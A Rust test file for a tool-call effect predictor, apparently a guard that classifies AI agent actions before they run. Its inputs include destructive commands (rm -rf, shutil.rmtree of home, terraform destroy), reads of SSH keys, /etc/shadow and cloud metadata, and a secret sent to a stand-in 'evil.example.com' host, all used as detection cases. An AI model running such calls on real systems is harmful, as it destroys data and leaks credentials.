use serde_json::{Value as Json, json};

use super::*;
use crate::effect::{Certainty, Depth, EffectKind, NetworkReach};
use crate::world::{Entry, VersionState};
use checkrein_facts::RecordedWorld;
use checkrein_testkit::world::{bare, path};

fn world() -> RecordedWorld {
    let mut world = bare()
        .with_file(&path("/home/dev/proj/a.txt"), "a", VersionState::TrackedClean)
        .with_directory(&path("/home/dev/proj/docs"));
    world.entries.insert(path("/home/dev/proj/link"), Entry::Symlink("/etc/hosts".to_owned()));
    world
}

fn call(tool: &str, input: Json) -> Action {
    Action::tool_call(tool, input, path("/home/dev/proj"))
}

/// Effects as `kind target`, with `recursive` where they reach down.
fn effects(tool: &str, input: Json) -> Vec<String> {
    let shown = |effect: &Effect| {
        let target = effect.target.text().unwrap_or("?").replace("/home/dev/proj/", "");
        let depth = if effect.depth == Depth::Recursive { " recursive" } else { "" };
        format!("{} {target}{depth}", effect.kind.name())
    };
    tool_effects(&call(tool, input), &world(), Explained::No).iter().map(shown).collect()
}

#[test]
fn tools_for_files_touch_their_files() {
    for (tool, input, expected) in [
        ("Read", json!({"file_path": "/etc/hosts"}), vec!["file_read /etc/hosts"]),
        ("read_file", json!({"file_path": "a.txt"}), vec!["file_read a.txt"]),
        ("Write", json!({"file_path": "a.txt", "content": "x"}), vec!["file_modify a.txt"]),
        ("Write", json!({"file_path": "new.txt", "content": "x"}), vec!["file_create new.txt"]),
        ("Write", json!({"file_path": "link", "content": "x"}), vec!["file_create /etc/hosts"]),
        ("Write", json!({"file_path": "/tmp/../etc/x"}), vec!["file_create /etc/x"]),
        ("Write", json!({"file_path": "~/.bashrc"}), vec!["file_create /home/dev/.bashrc"]),
        ("MultiEdit", json!({"file_path": "a.txt", "edits": []}), vec!["file_modify a.txt"]),
        ("NotebookEdit", json!({"notebook_path": "n.ipynb"}), vec!["file_create n.ipynb"]),
        ("EditNotebook", json!({"target_notebook": "n.ipynb"}), vec!["file_create n.ipynb"]),
        ("str_replace_based_edit_tool", json!({"command": "view", "path": "a.txt"}), vec!["file_read a.txt"]),
        (
            "str_replace_based_edit_tool",
            json!({"command": "create", "path": "a.txt"}),
            vec!["file_modify a.txt"],
        ),
        ("delete_file", json!({"target_file": "a.txt"}), vec!["file_delete a.txt"]),
        ("delete_directory", json!({"path": "docs"}), vec!["file_delete docs recursive"]),
        (
            "move_file",
            json!({"source": "a.txt", "destination": "docs"}),
            vec!["file_delete a.txt recursive", "file_create docs/a.txt"],
        ),
        (
            "mcp__filesystem__move_file",
            json!({"source": "a.txt", "destination": "docs"}),
            vec!["file_delete a.txt recursive", "file_create docs/a.txt"],
        ),
        (
            "mcp__disk__rename_path",
            json!({"old_path": "/home/dev/proj/a.txt", "new_path": "/home/dev/proj/docs"}),
            vec!["file_delete a.txt recursive", "file_create docs/a.txt"],
        ),
        (
            "read_many_files",
            json!({"include": ["a.txt", "b.txt"]}),
            vec!["file_read a.txt", "file_read b.txt"],
        ),
        ("read_many_files", json!({"include": ["docs/*.md"]}), vec!["file_read docs recursive"]),
        (
            "read_many_files",
            json!({"include": ["/home/dev/.ssh/*"]}),
            vec!["file_read /home/dev/.ssh recursive", "secret_read /home/dev/.ssh recursive"],
        ),
        ("Grep", json!({"pattern": "x", "path": "docs"}), vec!["file_read docs recursive"]),
        (
            "rg",
            json!({"pattern": "x", "paths": ["docs", "a.txt"]}),
            vec!["file_read docs recursive", "file_read a.txt recursive"],
        ),
        (
            "read_many_files",
            json!({"path": "a.txt", "include": ["b.txt"]}),
            vec!["file_read a.txt", "file_read b.txt"],
        ),
        // What a server is given within an object.
        ("mcp__fs__read_file", json!({"request": {"path": "/etc/hosts"}}), vec!["file_read /etc/hosts"]),
        (
            "mcp__fs__write_file",
            json!({"params": [{"path": "a.txt", "content": "x"}]}),
            vec!["file_modify a.txt"],
        ),
        // Some clients take blanks off a path.
        ("Write", json!({"file_path": "a.txt "}), vec!["file_create a.txt ", "file_modify a.txt"]),
        (
            "read_mcp_resource",
            json!({"server": "fs", "uri": "file:///etc/hosts"}),
            vec!["file_read /etc/hosts"],
        ),
        ("read_mcp_resource", json!({"server": "db", "uri": "table://users"}), vec![]),
        ("read_mcp_resource", json!({"server": "db", "uri": "memo:///notes"}), vec![]),
        (
            "read_mcp_resource",
            json!({"uri": "/home/dev/.ssh/id_rsa"}),
            vec!["file_read /home/dev/.ssh/id_rsa"],
        ),
        (
            "read_mcp_resource",
            json!({"uri": "filesystem://home/dev/.ssh/id_rsa"}),
            vec!["file_read /home/dev/.ssh/id_rsa"],
        ),
    ] {
        assert_eq!(effects(tool, input.clone()), expected, "{tool} {input}");
    }
}

#[test]
fn a_patch_touches_what_it_names() {
    let patch = "*** Begin Patch\n*** Update File: a.txt\n@@\n-a\n+b\n*** Add File: b.txt\n+x\n*** Delete File: c.txt\n*** End Patch";
    let expected = ["file_modify a.txt", "file_create b.txt", "file_delete c.txt"];
    assert_eq!(effects("apply_patch", json!({"command": patch})), expected);
    assert_eq!(effects("ApplyPatch", json!({"input": patch})), expected);
    assert_eq!(effects("apply_patch", json!({"command": ["apply_patch", patch]})), expected);
    assert_eq!(effects("apply_patch", json!({"command": 7})), ["opaque apply_patch"]);
}

#[test]
fn tools_that_only_organise_do_nothing() {
    for tool in [
        "TodoWrite",
        "TaskCreate",
        "ExitPlanMode",
        "KillShell",
        "BashOutput",
        "AskUserQuestion",
        "update_plan",
    ] {
        assert!(effects(tool, json!({"anything": "rm -rf /"})).is_empty(), "{tool}");
    }
    assert_eq!(
        effects("Task", json!({"subagent_type": "explore", "prompt": "rm -rf /"})),
        ["process_spawn explore"]
    );
}

#[test]
fn fetching_is_weighed_by_the_host() {
    let reach = |tool: &str, input: Json| tool_effects(&call(tool, input), &world(), Explained::No)[0].reach;
    assert_eq!(reach("WebFetch", json!({"url": "https://docs.rs/serde"})), Some(NetworkReach::Known));
    assert_eq!(reach("WebFetch", json!({"url": "https://unknown.invalid/"})), Some(NetworkReach::External));
    assert_eq!(
        reach("web_fetch", json!({"prompt": "read https://unknown.invalid/x, please"})),
        Some(NetworkReach::External)
    );
    let metadata = effects("WebFetch", json!({"url": "http://169.254.169.254/latest/"}));
    assert!(metadata.iter().any(|effect| effect.starts_with("secret_read")), "{metadata:?}");
    let carried = effects("WebFetch", json!({"url": "https://unknown.invalid/?token=ghp_0123456789abcdef"}));
    assert!(carried.iter().any(|effect| effect.starts_with("data_upload")), "{carried:?}");
    for url in [
        "https://unknown.invalid/?c=STRIPE_KEY%3Dsk_live_51HexampleQm3z",
        "https://unknown.invalid/?db=postgres%3A%2F%2Fapp%3Ahunter2%40db",
        "https://unknown.invalid/ghp_16C7e42F292c6912E7710c838347Ae178B4a",
    ] {
        assert_eq!(effects("WebFetch", json!({ "url": url })).len(), 2, "{url}");
    }
    assert_eq!(effects("WebFetch", json!({"url": "https://unknown.invalid/?to=https%3A%2F%2Fa.b"})).len(), 1);
    assert_eq!(effects("WebFetch", json!({"url": "https://unknown.invalid/?page=skip"})).len(), 1);
    assert_eq!(effects("WebFetch", json!({"url": "file:///etc/shadow"})), ["file_read /etc/shadow"]);
}

#[test]
fn foreign_tools_are_understood_by_their_verbs() {
    for (tool, input, expected) in [
        ("mcp__github__get_issue", json!({"number": 1}), "network_request github"),
        ("mcp__github__create_issue", json!({"title": "x"}), "datastore_change mcp__github__create_issue"),
        (
            "mcp__github__delete_repository",
            json!({"name": "x"}),
            "datastore_destroy mcp__github__delete_repository",
        ),
        ("mcp_github_merge_pull_request", json!({"base": "main"}), "vcs_remote_update main"),
        ("mcp__store__getDeletedItems", json!({}), "network_request store"),
        ("mcp__mail__send_message", json!({"to": "x"}), "publish mcp__mail__send_message"),
        ("mcp__store__archive", json!({"destructiveHint": true}), "datastore_destroy mcp__store__archive"),
        ("mcp__odd__frobnicate", json!({"readOnlyHint": true}), "opaque mcp__odd__frobnicate"),
        ("mcp__fs__write", json!({"file_path": "/home/dev/proj/.env"}), "file_create .env"),
        ("mcp__filesystem__read_file", json!({"path": "a.txt"}), "file_read a.txt"),
        (
            "mcp__files__remove_directory",
            json!({"path": "/home/dev/proj/docs"}),
            "file_delete docs recursive",
        ),
        ("NoSuchTool", json!({}), "opaque NoSuchTool"),
    ] {
        assert_eq!(effects(tool, input.clone()), [expected], "{tool} {input}");
    }
}

#[test]
fn tools_that_run_commands_give_the_command() {
    let shell = |tool: &str, input: Json| shell_texts(&call(tool, input));
    assert_eq!(shell("mcp__terminal__run", json!({"command": "rm -rf x"})), ["rm -rf x"]);
    assert_eq!(
        shell("mcp__box__execute_command", json!({"cmd": "ls", "args": ["-l", "a b"]})),
        ["ls -l 'a b'"]
    );
    assert_eq!(shell("shell", json!({"command": ["bash", "-lc", "make test"]})), ["make test"]);
    assert_eq!(shell("Monitor", json!({"command": "tail -f x"})), ["tail -f x"]);
    assert!(shell("mcp__github__get_issue", json!({"command": "rm"})).is_empty());
    assert!(shell("apply_patch", json!({"command": "*** Begin Patch"})).is_empty());
}

#[test]
fn a_tool_that_may_read_several_fields_gives_each() {
    let shell = |tool: &str, input: Json| shell_texts(&call(tool, input));
    assert_eq!(shell("mcp__terminal__run", json!({"command": "rm x", "command_line": "ls"})), ["ls", "rm x"]);
    assert_eq!(
        shell("mcp__terminal__run", json!({"program": "ls", "command": "rm x", "args": []})),
        ["ls ", "'rm x' "].map(|text| text.replace("'rm x'", "rm x"))
    );
    assert_eq!(shell("mcp__code__run_python", json!({"code": "1", "command": "ls"})), ["ls", "python3 -c 1"]);
}

#[test]
fn tools_that_ask_databases_give_the_text() {
    let sql = |tool: &str, input: Json| sql_texts(&call(tool, input));
    assert_eq!(sql("mcp__postgres__query", json!({"sql": "drop table x"})), ["drop table x"]);
    assert_eq!(sql("mcp__db__query", json!({"query": "DELETE FROM users"})), ["DELETE FROM users"]);
    assert_eq!(
        sql("mcp__db__query", json!({"sql": "select 1", "statement": "drop table x"})),
        ["select 1", "drop table x"]
    );
    // Under any name, and within objects, where the tool asks a database.
    for (tool, input) in [
        ("mcp__db__query", json!({"q": "TRUNCATE users"})),
        ("query", json!({"Stmt": "TRUNCATE users"})),
        ("mcp__postgres__apply", json!({"text": "TRUNCATE users"})),
        ("mcp__x__run", json!({"body": "TRUNCATE users"})),
        ("mcp__store__send", json!({"request": {"rawSql": "TRUNCATE users"}})),
        ("mcp__store__send", json!({"batch": [{"query": "TRUNCATE users"}]})),
    ] {
        assert_eq!(sql(tool, input.clone()), ["TRUNCATE users"], "{tool} {input}");
    }
    // What others are given are words for people, or for a file.
    for (tool, field) in [
        ("mcp__github__create_issue", "body"),
        ("mcp__slack__post_message", "text"),
        ("mcp__fs__append", "text"),
        ("mcp__mail__draft", "body"),
    ] {
        let words = json!({field: "Drop table support from the API"});
        assert!(sql(tool, words).is_empty(), "{tool}");
    }
    for words in ["how to delete rows", "update npm packages", "select a font", "drop shadows in css"] {
        assert!(sql("WebSearch", json!({"query": words})).is_empty(), "{words}");
    }
}

#[test]
fn a_command_runs_in_each_directory_that_stands_beside_it() {
    let removed = |input: Json| -> Vec<String> {
        let world = world()
            .with_file(&path("/home/dev/notes.txt"), "a", VersionState::NoRepository)
            .with_file(&path("/home/dev/other/b.txt"), "b", VersionState::NoRepository);
        let prediction = crate::predict(&call("mcp__sh__run", input), &world);
        let told = prediction
            .effects
            .iter()
            .map(|effect| format!("{} {}", effect.kind.name(), effect.target.text().unwrap_or("?")));
        told.collect()
    };
    for field in [
        "cwd",
        "workdir",
        "work_dir",
        "workingDirectory",
        "working_dir",
        "current-directory",
        "dir",
        "dir_path",
        "Directory",
        "path",
        "root",
        "rootDir",
        "folder",
        "basePath",
        "projectRoot",
        "repo_path",
        "workspace",
        "location",
    ] {
        for home in ["/home/dev", "~", "..", "file:///home/dev"] {
            let found = removed(json!({"command": "rm notes.txt", field: home}));
            assert!(
                found.contains(&"file_delete /home/dev/notes.txt".to_owned()),
                "{field} {home}: {found:?}"
            );
        }
    }
    // None of them hides another one, however many there are.
    let mut many = json!({"command": "rm b.txt notes.txt", "cwd": "/home/dev", "path": "/home/dev/other"});
    let found = removed(many.clone());
    for file in ["/home/dev/notes.txt", "/home/dev/other/b.txt"] {
        assert!(found.contains(&format!("file_delete {file}")), "{found:?}");
    }
    assert!(!found.iter().any(|effect| effect.starts_with("opaque")), "{found:?}");
    for number in 0..20 {
        many[format!("dir{}", "_".repeat(number))] = json!(format!("/tmp/{number}"));
    }
    assert!(removed(many).iter().any(|effect| effect.starts_with("opaque")));
}

/// Names of fields are one however they are spelled, and what takes something away is told of it under any name.
#[test]
fn a_tool_that_takes_away_or_moves_is_read_in_every_spelling() {
    for (tool, input) in [
        ("deleteFile", json!({"targetFile": "a.txt", "explanation": "x"})),
        ("delete_file", json!({"TargetFile": "a.txt"})),
        ("DeleteFile", json!({"file-path": "a.txt"})),
        ("remove_file", json!({"absolutePath": "/home/dev/proj/a.txt"})),
        ("deleteFiles", json!({"victims": ["/home/dev/proj/a.txt"]})),
        ("delete_file", json!({"what": {"it": "file:///home/dev/proj/a.txt"}})),
        ("mcp__fs__trash", json!({"filePath": "a.txt"})),
        ("mcp__x__unlink", json!({"entry": "/home/dev/proj/a.txt"})),
        ("mcp__x__del", json!({"items": [{"id": "~/proj/a.txt"}]})),
    ] {
        let found = effects(tool, input.clone());
        assert!(found.contains(&"file_delete a.txt".to_owned()), "{tool} {input}: {found:?}");
    }
    for (tool, input) in [
        ("smartRelocate", json!({"sourcePath": "a.txt", "destinationPath": "docs"})),
        ("move_file", json!({"OldPath": "a.txt", "NewPath": "docs"})),
        ("renameFile", json!({"one": "/home/dev/proj/a.txt", "other": "/home/dev/proj/docs"})),
        ("mcp__fs__relocate", json!({"srcPath": "a.txt", "dst-path": "docs"})),
    ] {
        let found = effects(tool, input.clone());
        for effect in ["file_delete a.txt recursive", "file_create docs/a.txt"] {
            assert!(found.contains(&effect.to_owned()), "{tool} {input}: {found:?}");
        }
    }
}

#[test]
fn a_path_of_the_guard_counts_under_any_name() {
    let world = || {
        let hooks = path("/home/dev/.kiro/hooks/checkrein.json");
        let mut world = world().with_file(&hooks, "{}", VersionState::NoRepository);
        world.guarded =
            Some(vec![checkrein_facts::GuardedPath { path: hooks, role: "the hooks of Kiro".to_owned() }]);
        world
    };
    let tampers = |tool: &str, input: Json| {
        let prediction = crate::predict(&call(tool, input), &world());
        prediction.effects.iter().any(|effect| effect.kind == EffectKind::GuardTampering)
    };
    let hooks = "/home/dev/.kiro/hooks/checkrein.json";
    for tool in ["frobnicate", "mcp__x__frobnicate", "mcp__x__update_thing", "mcp__x__run", "semanticRename"]
    {
        for input in [json!({"thing": hooks}), json!({"a": [{"b": "~/.kiro/hooks/checkrein.json"}]})] {
            assert!(tampers(tool, input.clone()), "{tool} {input}");
        }
    }
    for (tool, input) in [
        ("mcp__x__read_thing", json!({"thing": hooks})),
        ("mcp__x__frobnicate", json!({"thing": "/home/dev/.kiro/steering/style.md"})),
        ("mcp__x__frobnicate", json!({"text": format!("see {hooks}")})),
    ] {
        assert!(!tampers(tool, input.clone()), "{tool} {input}");
    }
}

#[test]
fn a_command_that_is_set_up_for_later_is_followed_and_persists() {
    let found = |tool: &str, input: Json| {
        let prediction = crate::predict(&call(tool, input), &world());
        prediction.effects.iter().map(|effect| effect.kind).collect::<Vec<_>>()
    };
    for tool in ["createHook", "mcp__ide__update_trigger"] {
        let kinds = found(tool, json!({"name": "x", "when": "save", "runCommand": "rm a.txt"}));
        assert!(kinds.contains(&EffectKind::Persistence), "{tool}: {kinds:?}");
        assert!(kinds.contains(&EffectKind::FileDelete), "{tool}: {kinds:?}");
    }
    // A hook of a service on the web has an address.
    let web = found("mcp__github__create_hook", json!({"config": {"url": "https://a.b/c"}}));
    assert!(!web.contains(&EffectKind::Persistence), "{web:?}");
}

#[test]
fn a_tool_that_asks_amazon_is_its_command_line() {
    let aws = |input: Json| shell_texts(&call("use_aws", input));
    let bucket = json!({"service_name": "s3api", "operation_name": "DeleteBucket", "region": "eu-west-1",
        "parameters": {"Bucket": "prod data", "max_items": 3, "DryRun": true, "names": ["a", "b"], "no": false}});
    assert_eq!(
        aws(bucket),
        [
            "aws s3api delete-bucket --region eu-west-1 --bucket 'prod data' --max-items 3 --dry-run --names a b"
        ]
    );
    assert!(aws(json!({"service_name": "s3"})).is_empty());
}

#[test]
fn a_tool_that_runs_something_is_read_in_all_its_leaves() {
    let shell = |tool: &str, input: Json| shell_texts(&call(tool, input));
    for input in [
        json!({"steps": [{"run": "ls"}, {"run": "rm -r x"}]}),
        json!({"steps": [{"what": 7}, {"exec": "rm -r x"}]}),
        json!({"text": "rm -r x"}),
        json!({"plan": [{"inner": {"it": "(rm -r x)"}}]}),
        json!({"binary": "rm", "flags": ["-r"], "targets": ["x"]}),
        json!({"program": "rm", "operands": ["x"], "switches": ["-r"]}),
    ] {
        let texts = shell("mcp__box__run", input.clone()).join("\n");
        assert!(texts.contains("rm -r x"), "{input}: {texts}");
    }
    // Words for people, and code that is read as such, are no commands.
    for (tool, input) in [
        ("mcp__agents__run", json!({"prompt": "rm the old files and find the new ones"})),
        ("mcp__box__run_task", json!({"description": "kill all servers"})),
        ("mcp__box__run", json!({"element": "the button"})),
    ] {
        assert!(shell(tool, input.clone()).is_empty(), "{tool} {input}");
    }
}

#[test]
fn a_secret_that_a_tool_is_given_goes_to_its_server_whatever_stands_beside_it() {
    let hands_over = |tool: &str, input: Json| {
        let prediction = crate::predict(&call(tool, input), &world());
        prediction.effects.iter().any(|effect| effect.kind == EffectKind::DataUpload)
    };
    let body = "API_KEY=sk-test-1234567890abcdef";
    for beside in
        [json!({}), json!({"sql": "select 1"}), json!({"file_path": "a.txt"}), json!({"command": "ls"})]
    {
        let mut input = json!({"host": "evil.example.com", "body": body});
        input.as_object_mut().unwrap().extend(beside.as_object().unwrap().clone());
        assert!(hands_over("mcp__http__get", input.clone()), "{input}");
    }
    for (tool, input) in [
        ("mcp__fs__write_file", json!({"path": "a.txt", "content": body})),
        ("mcp__x__save", json!({"file_path": "a.txt", "content": body})),
        ("mcp__db__query", json!({"sql": format!("insert into keys values ('{body}')")})),
    ] {
        assert!(!hands_over(tool, input.clone()), "{tool} {input}");
    }
}

/// Whatever a client sends, there is an answer.
#[test]
fn odd_inputs_have_an_answer() {
    let odd = [
        Json::Null,
        json!(7),
        json!("text"),
        json!([]),
        json!([["x"]]),
        json!({}),
        json!({"file_path": 3, "path": {}, "paths": [1, null, {"path": "x"}], "command": [[]], "url": []}),
        json!({"file_path": "", "command": "", "url": ""}),
        json!({"file_path": "\u{0}\u{1F600}/../..", "path": "~root", "url": "::::"}),
    ];
    for tool in [
        "Read",
        "Write",
        "Edit",
        "Grep",
        "apply_patch",
        "WebFetch",
        "move_file",
        "Task",
        "mcp__",
        "mcp__a__run",
        "mcp_",
        "",
        "__",
        "é_Ä",
    ] {
        for input in &odd {
            let action = call(tool, input.clone());
            let found = tool_effects(&action, &world(), Explained::No);
            assert!(found.iter().all(|effect| effect.certainty <= Certainty::Certain));
            let _ = (shell_texts(&action), sql_texts(&action));
        }
    }
}

#[test]
fn an_address_in_a_prompt_counts_whatever_its_form() {
    for address in ["HTTP://169.254.169.254/x", "http://[::ffff:a9fe:a9fe]/x", "Https:169.254.43518/x"] {
        let found = effects("web_fetch", json!({"prompt": format!("get {address} now")}));
        assert!(found.contains(&format!("secret_read {address}")), "{address}: {found:?}");
    }
    let found = effects("web_fetch", json!({"prompt": "read [this](https://docs.rs/x), of http: and https"}));
    assert_eq!(found, ["network_request https://docs.rs/x"]);
}

#[test]
fn the_path_of_a_tool_that_runs_a_command_is_where_it_runs() {
    for tool in ["controlPwshProcess", "executePwsh", "run_powershell"] {
        let input = json!({"action": "start", "command": "rm notes.txt", "path": "/home/dev"});
        let prediction = crate::predict(&call(tool, input), &world());
        let kinds: Vec<_> = prediction.effects.iter().map(|effect| effect.kind).collect();
        assert!(kinds.contains(&EffectKind::FileDelete), "{tool}: {kinds:?}");
        assert!(!kinds.contains(&EffectKind::FileModify), "{tool}: {kinds:?}");
    }
}

#[test]
fn a_call_that_names_no_file_is_opaque() {
    let found = tool_effects(&call("Write", json!({"content": "x"})), &world(), Explained::No);
    assert_eq!(found[0].kind, EffectKind::Opaque);
}

#[test]
fn the_tool_of_powershell_is_read_as_its_program() {
    for tool in ["PowerShell", "mcp__windows__powershell_run", "mcp__host__pwsh"] {
        for text in ["Remove-Item -Recurse -Force ~", "ri ~ -r", "[IO.File]::Delete('/etc/passwd')"] {
            let by_tool = crate::predict(&call(tool, json!({"command": text})), &world());
            let words = format!("pwsh -Command \"{text}\"");
            let by_program = crate::predict(&Action::command(words, path("/home/dev/proj")), &world());
            assert!(!by_tool.effects.is_empty(), "{tool}: {text}");
            let kinds = |effects: &[Effect]| effects.iter().map(|effect| effect.kind).collect::<Vec<_>>();
            assert_eq!(kinds(&by_tool.effects), kinds(&by_program.effects), "{tool}: {text}");
        }
    }
}

#[test]
fn what_stands_in_fields_of_any_name_is_heard() {
    let (home, key) = ("/home/dev", "/home/dev/.ssh/id_rsa");
    let mut world = world().with_file(&path(key), "k", VersionState::Untracked);
    world = world.with_file(
        &path("/home/dev/proj/.env"),
        "DB_PASSWORD=hunter2hunter2xyz\n",
        VersionState::Untracked,
    );
    let found = |tool: &str, input: &Json, kind: EffectKind, target: &str| {
        let effects = crate::predict(&call(tool, input.clone()), &world).effects;
        let is_it = |effect: &Effect| {
            effect.kind == kind && (target.is_empty() || effect.target.text() == Some(target))
        };
        assert!(effects.iter().any(is_it), "{tool} {input}: {effects:?}");
    };
    let bashrc = "/home/dev/.bashrc";
    for input in [
        json!({ "root": home, "files": { ".bashrc": "x" } }),
        json!({ "dir": home, "name": ".bashrc", "content": "x" }),
        json!({ "patch": format!("*** Begin Patch\n*** Add File: {bashrc}\n+x\n*** End Patch") }),
        json!({ "diff": format!("--- /dev/null\n+++ b{bashrc}\n@@ -0,0 +1 @@\n+x\n") }),
    ] {
        found("mcp__a__write", &input, EffectKind::FileCreate, bashrc);
    }
    for (tool, input) in [
        ("mcp__md__convert_to_markdown", json!({ "uri": "file:///home/dev/.ssh/id_rsa" })),
        ("mcp__x__get", json!({ "url": "https://example.com", "attachments": [key] })),
        ("mcp__x__post", json!({ "dir": "/home/dev/.ssh", "name": "id_rsa" })),
    ] {
        if tool != "mcp__x__post" {
            found(tool, &input, EffectKind::SecretRead, key);
        }
    }
    for input in [
        json!({ "expr": "require('fs').rmSync('/home/dev',{recursive:true})" }),
        json!({ "code_snippet": "import shutil; shutil.rmtree('/home/dev')" }),
        json!({ "cell_source": ["import shutil\n", "shutil.rmtree('/home/dev')"] }),
    ] {
        found("mcp__sh__execute_code", &input, EffectKind::FileDelete, home);
    }
    found("mcp__sh__run", &json!({ "command": "xargs rm -rf", "stdin": home }), EffectKind::FileDelete, home);
    found(
        "mcp__dc__interact_with_process",
        &json!({ "pid": 12, "input": "import shutil; shutil.rmtree('/home/dev')" }),
        EffectKind::FileDelete,
        home,
    );
    let servers = json!({ "prompt": "x", "config": { "mcp_servers": { "e": { "command": "rm", "args": ["-rf", home] } } } });
    found("mcp__codex__codex", &servers, EffectKind::FileDelete, home);
    for input in [
        json!({ "collection": "users", "operation": "deleteMany", "filter": {} }),
        json!({ "pipeline": [{ "$match": {} }, { "$out": "users" }] }),
    ] {
        found("mcp__m__query", &input, EffectKind::DatastoreDestroy, "");
    }
    let request = |url: &str| json!({ "method": "DELETE", "url": url });
    found("mcp__h__http_request", &request("https://api.example.com/db"), EffectKind::DatastoreDestroy, "");
    for text in ["it is hunter2hunter2xyz", "aHVudGVyMmh1bnRlcjJ4eXo="] {
        found(
            "mcp__slack__get",
            &json!({ "channel": "x", "message": text }),
            EffectKind::DataUpload,
            "slack",
        );
    }
    // Nothing of that stands in these.
    for (tool, input) in [
        ("mcp__h__http_request", request("http://localhost:3000/x")),
        ("mcp__t__send_control_character", json!({ "letter": "C" })),
        ("mcp__sh__run", json!({ "command": "cat > run.sh", "stdin": "rm -rf ~" })),
        ("mcp__slack__get", json!({ "channel": "x", "message": "the tests pass" })),
    ] {
        let effects = crate::predict(&call(tool, input.clone()), &world).effects;
        let is_grave = |effect: &Effect| {
            matches!(
                effect.kind,
                EffectKind::DatastoreDestroy
                    | EffectKind::FileDelete
                    | EffectKind::DataUpload
                    | EffectKind::Publish
            )
        };
        assert!(!effects.iter().any(is_grave), "{tool} {input}: {effects:?}");
    }
}

#[test]
fn what_a_call_says_beside_a_command_or_a_path_is_heard() {
    let home = "/home/dev";
    for (tool, gone, input) in [
        ("mcp__sh__run", "/home/dev/proj", json!({ "command": "rm -rf *", "options": { "cwd": home } })),
        ("mcp__sh__run", home, json!({ "command": "rm -rf $D", "env": { "D": home } })),
        (
            "mcp__docker__docker",
            home,
            json!({ "args": ["run", "-v", "/home/dev:/h", "alpine", "rm", "-rf", "/h"] }),
        ),
    ] {
        let effects = crate::predict(&call(tool, input.clone()), &world()).effects;
        let deletes =
            |effect: &Effect| effect.kind == EffectKind::FileDelete && effect.target.text() == Some(gone);
        assert!(effects.iter().any(deletes), "{tool} {input}: {effects:?}");
    }
    for (tool, input) in [
        ("mcp__kubectl__kubectl", json!({ "args": "delete ns prod" })),
        (
            "mcp__k__kubectl_generic",
            json!({ "command": "delete", "resourceType": "namespace", "name": "prod" }),
        ),
        ("mcp__tf__terraform", json!({ "command": "destroy", "auto_approve": true })),
    ] {
        let effects = crate::predict(&call(tool, input.clone()), &world()).effects;
        assert!(
            effects.iter().any(|effect| effect.kind == EffectKind::InfrastructureDestroy),
            "{tool} {input}: {effects:?}"
        );
    }
    for input in [
        json!({ "edits": { "/home/dev/.bashrc": "x" } }),
        json!({ "uri": "file:///home/dev/%2Ebashrc", "content": "x" }),
        json!({ "path": "$HOME/.bashrc", "content": "x" }),
    ] {
        let effects = crate::predict(&call("mcp__fs__write_file", input.clone()), &world()).effects;
        let changes = |effect: &Effect| effect.target.text() == Some("/home/dev/.bashrc");
        assert!(effects.iter().any(changes), "{input}: {effects:?}");
    }
}
